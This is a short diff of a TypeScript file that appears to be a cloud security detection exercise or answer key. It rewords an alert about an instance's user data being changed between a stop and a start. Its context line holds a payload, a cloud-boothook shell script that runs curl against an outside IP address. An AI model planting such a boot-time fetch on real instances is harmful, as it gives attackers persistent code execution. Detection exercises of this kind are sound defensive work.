@@ -13,7 +13,7 @@ const PAYLOAD = Buffer.from('#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.11
 );
 const CYCLE_ALERTS = [
   `User data of ${VICTIM} was changed between a stop and a start`,
-  `jonas.falk changed the user data of ${VICTIM} and restarted it`,
+  `User data of ${VICTIM} changed and the instance restarted by jonas.falk`,
   'Stop, user-data change and start by arn:aws:iam::123456789012:user/jonas.falk',
 ];
 const ANSWERS: readonly [step: string, answer: string, note?: string][] = [
